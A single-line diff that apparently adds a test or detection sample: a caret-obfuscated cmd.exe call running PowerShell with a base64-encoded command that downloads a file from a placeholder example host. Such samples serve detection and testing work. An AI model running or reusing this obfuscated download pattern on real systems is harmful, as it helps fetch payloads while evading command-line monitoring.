@@ -1,0 +1,1 @@
+C:\W^indows\Sys^tem32\cmd.exe /c powershell -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA=
